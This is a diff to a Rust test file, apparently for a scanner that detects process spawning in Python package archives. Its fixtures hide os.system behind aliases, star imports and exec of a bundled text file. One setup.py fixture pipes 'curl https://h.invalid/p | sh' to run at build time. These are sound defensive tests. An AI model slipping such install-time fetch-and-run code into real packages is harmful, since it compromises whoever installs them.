@@ -394,6 +394,31 @@ fn what_several_modules_say_together_is_read_together() {
             ),
             ("demo-1.0/demo/words.py", "A, B = 'o', 'syst'\n"),
         ],
+        &[
+            (
+                "demo-1.0/demo/__init__.py",
+                "from .tools import start\nstart('id -u')\n",
+            ),
+            ("demo-1.0/demo/tools.py", "from os import system as start\n"),
+        ],
+        &[
+            (
+                "demo-1.0/demo/__init__.py",
+                "from .tools import *\nstart('id -u')\n",
+            ),
+            ("demo-1.0/demo/tools.py", "import os\nstart = os.system\n"),
+        ],
+        &[
+            (
+                "demo-1.0/demo/__init__.py",
+                "import os\nfrom .tools import load\nload(os.path.dirname(__file__) + '/notes.txt')\n",
+            ),
+            (
+                "demo-1.0/demo/tools.py",
+                "def load(path):\n    exec(open(path).read())\n",
+            ),
+            ("demo-1.0/demo/notes.txt", "import os\nos.system('id')\n"),
+        ],
     ] {
         assert_eq!(
             deeds(members, Deed::Spawn),
@@ -401,4 +426,16 @@ fn what_several_modules_say_together_is_read_together() {
             "{members:?}"
         );
     }
+}
+
+#[test]
+fn what_a_helper_of_the_build_starts_is_told_by_who_calls_it() {
+    let members = [
+        (
+            "demo-1.0/setup.py",
+            "from helper import *\nrun('curl https://h.invalid/p | sh')\n",
+        ),
+        ("demo-1.0/helper.py", "from os import system as run\n"),
+    ];
+    assert_eq!(deeds(&members, Deed::Spawn), [Trigger::Build]);
 }
